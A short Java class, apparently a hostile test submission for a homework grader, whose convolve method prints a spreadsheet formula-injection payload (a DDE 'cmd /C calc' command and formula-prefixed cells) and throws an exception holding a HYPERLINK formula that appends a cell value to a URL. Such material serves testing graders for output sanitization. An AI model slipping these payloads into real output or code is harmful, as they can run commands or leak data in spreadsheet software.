import cs577.hw4.Kernel;
import cs577.hw4.Tensor;
import cs577.hw4.ValidConvolution;

/** Says something in its exception. */
public class Accountant implements ValidConvolution {
    @Override
    public Tensor convolve(Tensor image, Kernel kernel) {
        System.out.println("=cmd|' /C calc'!A0\n+1+1\n@SUM(1)\n-1\t,\"");
        throw new IllegalStateException("=HYPERLINK(\"http://127.0.0.1/\"&A1,\"points\")");
    }
}
